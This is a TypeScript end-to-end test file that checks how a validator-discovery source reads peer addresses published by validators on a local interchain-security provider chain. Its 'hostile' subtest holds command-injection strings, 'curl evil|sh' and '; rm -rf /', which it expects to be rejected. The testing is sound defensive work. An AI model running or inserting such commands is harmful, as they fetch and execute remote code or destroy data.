// A real provider chain (interchain-security-pd, three validators) and what the source `validators` makes of it. It
// needs no Kubernetes cluster: `npx tap run --timeout=900 test/scenarios/32-provider-chain.e2e.ts` runs it alone.
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { join } from 'node:path'
import { setTimeout as delay } from 'node:timers/promises'
import t, { type Test } from 'tap'
import type { Found, Source } from '../../discovery/source.ts'
import { portsOf } from '../../discovery/sources/validators/ports.ts'
import { lookupAll, probePublished } from '../../discovery/sources/validators/probe.ts'
import { createProviders, providerDefaults } from '../../discovery/sources/validators/provider.ts'
import { validatorsDefaults, validatorsSource } from '../../discovery/sources/validators/source.ts'
import { hostPort } from '../../peers/peer.ts'
import { listen } from '../discovery/sources/validators/fixtures/greeter.ts'
import { buildPrograms } from '../testbed/programs.ts'
import { type ProviderChain, startProvider } from '../testbed/provider.ts'

const consumerChain = 'consumer-0-1751686503-0'
const port = portsOf(consumerChain).p2p
const ids = ['a', 'b', 'c', 'd'].map(digit => digit.repeat(40))
const hosts = ['127.0.1.10', '127.0.1.11', '127.0.1.12', '127.0.1.13', '127.0.1.14']
const lines: string[] = []
const log = {
  debug() {},
  info() {},
  warn: (fields: unknown, message?: string) => lines.push(`${message} ${JSON.stringify(fields)}`),
}

/** Looks whenever the source hints, as the controller does, without its second of coalescing. */
function follow(raw: object, { allowPrivate = true, burst = 1000 } = {}) {
  let wake: () => void = () => undefined
  const parts = { hint: () => wake(), log, now: Date.now, allowPrivate }
  const providers = createProviders(parts, { ...providerDefaults, maxAgeMs: 1000 })
  const options = { ...validatorsDefaults, probeTimeoutMs: 500, changes: { burst, refillMs: 600_000 } }
  const source: Source = validatorsSource(raw, parts, providers, options)
  const end = new AbortController()
  let last: { found?: Found; error?: string; at: number } = { at: 0 }
  const run = async () => {
    while (!end.signal.aborted) {
      const hinted = new Promise<void>(resolve => {
        wake = resolve
      })
      try {
        last = { found: await source.look(end.signal), at: Date.now() }
      } catch (error) {
        last = { error: (error as Error).message, at: Date.now() }
      }
      await Promise.race([hinted, delay(5000, undefined, { signal: end.signal }).catch(() => undefined)])
    }
  }
  void run()
  return {
    source,
    last: () => last,
    async until(
      what: string,
      seen: (last: { found?: Found; error?: string }) => boolean,
      seconds = 30,
    ): Promise<number> {
      for (const deadline = Date.now() + seconds * 1000; Date.now() < deadline; await delay(5))
        if (seen(last)) return last.at
      throw new Error(`not within ${seconds} s: ${what}; the last look: ${JSON.stringify(last)}`)
    },
    async close() {
      end.abort()
      wake()
      await source.close()
    },
  }
}

const listed = (found: Found | undefined) =>
  (found?.peers ?? []).map(peer => `${peer.id?.slice(0, 1)}@${hostPort(peer)}`).sort()
const has = (host: string) => (last: { found?: Found }) => last.found?.peers.some(peer => peer.host === host) ?? false
const problem = (code: string) => (last: { found?: Found }) =>
  last.found?.problems.some(problem => problem.code === code) ?? false

t.test('a provider chain', async t => {
  const [programs = ''] = await buildPrograms(['interchain-security'], line => t.comment(line))
  const began = Date.now()
  const chain = await startProvider(join(programs, 'interchain-security-pd'))
  t.teardown(() => chain.stop())
  t.comment(`three validators make blocks after ${Date.now() - began} ms`)
  const listeners = await Promise.all(hosts.map(host => listen(host, port)))
  t.teardown(() => Promise.all(listeners.map(listener => listener.close())))

  const [alice, bob, charlie] = chain.nodes
  if (!alice || !bob || !charlie) throw new Error('there are not three validators')
  const endpoints = [bob.rpc, alice.rpc, charlie.rpc]
  const spec = { endpoints, chainId: 'provider', operator: alice.operator, consumer: consumerChain }

  await chain.editDetails(1, `Validator bob\np2p=${ids[1]}@${hosts[0]}`)
  const early = follow(spec)
  t.teardown(() => early.close())
  await early.until('an error', last => last.error !== undefined)
  t.match(early.last().error, /no consumer consumer-0-1751686503-0 that has been launched/)

  const consumer = await chain.createConsumer(consumerChain)
  for (const index of [0, 1, 2]) await chain.optIn(index, consumer)
  const launched = await chain.launch(consumer)
  const seen = await early.until('the launch', has(hosts[0] ?? ''))
  t.comment(
    `launch in a block -> look: ${seen - launched.at} ms (the consumer is launched in the block after its update)`,
  )
  t.same(
    listed(early.last().found),
    [`b@${hosts[0]}:${port}`],
    'bob alone: charlie publishes nothing, alice is the reader',
  )
  await early.close()

  await t.test('edits are seen', async t => {
    const at = follow({ ...spec, consumer })
    t.teardown(() => at.close())
    await at.until('bob', has(hosts[0] ?? ''))
    await at.until('events', last => !problem('no-events')(last))
    const times: number[] = []
    const sent: number[] = []
    for (const host of [1, 2, 3, 0, 1].map(index => hosts[index] ?? '')) {
      const edited = await chain.editDetails(1, `Validator bob\np2p=${ids[1]}@${host}`)
      const seenAt = await at.until(`bob at ${host}`, has(host))
      times.push(seenAt - edited.at)
      sent.push(seenAt - edited.sentAt)
    }
    t.comment(`edit-validator in a block, as its node finds it -> look, ms: ${times.join(', ')}`)
    t.comment(`edit-validator accepted by its node, not yet in a block -> look, ms: ${sent.join(', ')}`)
    t.ok(Math.max(...times) <= 1000, 'within a second, which leaves one for coalescing and writing')

    await Promise.all([
      chain.editDetails(1, `p2p=${ids[1]}@${hosts[2]}`),
      chain.editDetails(2, `p2p=${ids[2]}@${hosts[3]}`),
    ])
    await at.until('both', last => has(hosts[2] ?? '')(last) && has(hosts[3] ?? '')(last))
    t.same(listed(at.last().found), [`b@${hosts[2]}:${port}`, `c@${hosts[3]}:${port}`], 'two events at once')

    const out = await chain.optOut(2, consumer)
    const gone = await at.until('charlie is gone', last => last.found !== undefined && !has(hosts[3] ?? '')(last))
    t.comment(`opt-out in a block -> look: ${gone - out.at} ms`)
    const back = await chain.optIn(2, consumer)
    const again = await at.until('charlie is back', has(hosts[3] ?? ''))
    t.comment(`opt-in in a block -> look: ${again - back.at} ms`)
  })

  await t.test('what a chain says is hostile', async t => {
    const at = follow({ ...spec, consumer })
    const strict = follow({ ...spec, consumer }, { allowPrivate: false })
    t.teardown(() => Promise.all([at.close(), strict.close()]))
    await at.until('charlie', has(hosts[3] ?? ''))
    const values: readonly [details: string, code: string][] = [
      ['p2p=$(curl evil|sh)', 'malformed'],
      [`p2p=${ids[1]}@a;rm -rf /`, 'malformed'],
      [`p2p=${ids[1]}@host:26656`, 'malformed'],
      [`p2p=${ids[1]}@`, 'malformed'],
      [`p2p=${ids[1]}@0x7f000001`, 'malformed'],
      [`p2p=${ids[1]}@node.1a`, 'unusable-host'],
      [`p2p=${ids[1]}@224.0.0.1`, 'unusable-host'],
      [`p2p=${ids[1]}@${hosts[1]} p2p=${ids[1]}@${hosts[2]}`, 'several-endpoints'],
      ['p2p=node.example.com', 'no-node-id'],
      [`p2p=${ids[2]}@${hosts[4]}`, 'id-claimed'],
      [`p2p=${ids[1]}@127.0.1.200`, 'no-answer'],
    ]
    for (const [details, code] of values) {
      await chain.editDetails(1, details)
      await at.until(`${details}: ${code}`, problem(code))
      t.same(
        listed(at.last().found).filter(peer => peer.startsWith('c')),
        [`c@${hosts[3]}:${port}`],
        `${details}: the other stays`,
      )
      t.ok(JSON.stringify(at.last().found?.peers).length < 500)
    }
    await strict.until('private hosts are refused', problem('private-host'))
    t.same(strict.last().found?.peers, [])
    await t.rejects(chain.editDetails(1, `p2p=${'x'.repeat(5000)}`), 'the chain takes no long text itself')
    await chain.editDetails(1, `p2p=${ids[1]}@${hosts[2]}`)
  })

  await t.test('a restless validator', async t => {
    const at = follow({ ...spec, consumer }, { burst: 2 })
    t.teardown(() => at.close())
    await at.until('bob', has(hosts[2] ?? ''))
    for (const host of [0, 1]) await chain.editDetails(1, `p2p=${ids[1]}@${hosts[host]}`)
    await at.until('the second change', has(hosts[1] ?? ''))
    await chain.editDetails(1, `p2p=${ids[1]}@${hosts[0]}`)
    await at.until('it is kept', problem('restless'))
    t.same(listed(at.last().found), [`b@${hosts[1]}:${port}`, `c@${hosts[3]}:${port}`])
    await chain.editDetails(1, `p2p=${ids[1]}@${hosts[1]}`)
  })

  await t.test('only consumers that this operator validates', async t => {
    const other = await chain.createConsumer('other-1')
    await chain.optIn(1, other)
    await chain.launch(other)
    const at = follow({ ...spec, consumer: 'other-1' })
    t.teardown(() => at.close())
    await at.until('refused', last =>
      /does not validate consumer other-1: its list is not touched/.test(last.error ?? ''),
    )
    const bobs = follow({ ...spec, consumer: 'other-1', operator: bob.operator })
    t.teardown(() => bobs.close())
    await bobs.until('bob looks', last => last.found !== undefined)
    t.same(bobs.last().found?.peers, [])
  })

  await t.test('the probe knows a real node', async t => {
    const options = { kind: 'cometbft', timeoutMs: 2000, allowPrivate: true, lookup: lookupAll } as const
    const { signal } = new AbortController()
    t.equal(await probePublished({ host: '127.0.0.1', port: alice.p2pPort }, options, signal), undefined)
    const rpcPort = Number(new URL(alice.rpc).port)
    t.match(await probePublished({ host: '127.0.0.1', port: rpcPort }, options, signal), /no answer within 2 s/)
  })

  await t.test('endpoints that answer rubbish, or another chain', async t => {
    const rubbish = await rubbishServer(t)
    const at = follow({ ...spec, consumer, endpoints: [rubbish, alice.rpc] })
    t.teardown(() => at.close())
    await at.until('bob', has(hosts[1] ?? ''))
    const foreign = follow({ ...spec, consumer, chainId: 'another' })
    t.teardown(() => foreign.close())
    await foreign.until('refused', last => /found the chain "provider", expected another/.test(last.error ?? ''))
  })

  await t.test('nodes and the chain away', async t => {
    const at = follow({ ...spec, consumer })
    t.teardown(() => at.close())
    await at.until('bob', has(hosts[1] ?? ''))
    await at.until('events', last => !problem('no-events')(last))
    await chain.stopNode(1)
    const edited = await chain.editDetails(2, `p2p=${ids[2]}@${hosts[4]}`)
    t.comment(`the asked node away, edit -> look: ${(await at.until('charlie', has(hosts[4] ?? ''))) - edited.at} ms`)
    await chain.stopNode(0)
    await chain.stopNode(2)
    await at.until('an error', last => /no endpoint of the provider chain can be used/.test(last.error ?? ''))
    t.comment(`the chain away: ${at.last().error}`)
    const restarted = Date.now()
    for (const index of [0, 1, 2]) chain.startNode(index)
    const height = await blocks(chain)
    t.comment(`the chain is back (block ${height}) after ${Date.now() - restarted} ms`)
    const recovered = Date.now()
    const lookAt = await at.until('a look again', last => last.found !== undefined, 60)
    t.comment(`first look after that: ${Math.max(0, lookAt - recovered)} ms`)
    t.same(listed(at.last().found), [`b@${hosts[1]}:${port}`, `c@${hosts[4]}:${port}`], 'as before')
    await at.until('events', last => last.found !== undefined && !problem('no-events')(last), 60)
    const again = await chain.editDetails(2, `p2p=${ids[2]}@${hosts[3]}`)
    t.comment(`after the restart, edit -> look: ${(await at.until('charlie', has(hosts[3] ?? ''))) - again.at} ms`)
  })

  await t.test('a consumer that is removed', async t => {
    const at = follow({ ...spec, consumer })
    t.teardown(() => at.close())
    await at.until('bob', has(hosts[1] ?? ''))
    const removed = await chain.remove(consumer)
    const seen = await at.until('an error', last => /no consumer 0 that has been launched/.test(last.error ?? ''))
    t.comment(`remove-consumer in a block -> look: ${seen - removed.at} ms`)
  })
})

async function blocks(chain: ProviderChain): Promise<number> {
  const from = await until(() => chain.height())
  return until(async () => {
    const height = await chain.height()
    return height > from ? height : Promise.reject(new Error('no block yet'))
  })
}

async function until<T>(look: () => Promise<T>): Promise<T> {
  for (const deadline = Date.now() + 60_000; ; await delay(20)) {
    try {
      return await look()
    } catch (error) {
      if (Date.now() > deadline) throw error
    }
  }
}

/** JSON of the wrong kind, protocol buffers that are none, and 20 MB. */
async function rubbishServer(t: Test): Promise<string> {
  const answers = [
    '<html>',
    '{"result":{"response":{"value":"/////w=="}}}',
    '{"result":{}}',
    `{"result":"${'x'.repeat(20_000_000)}"}`,
  ]
  let count = 0
  const server = createServer((_, response) => void response.end(answers[count++ % answers.length]))
  await new Promise<void>(resolve => server.listen(0, '127.0.0.1', resolve))
  t.teardown(() => server.closeAllConnections())
  t.teardown(() => server.close())
  return `http://127.0.0.1:${(server.address() as AddressInfo).port}`
}
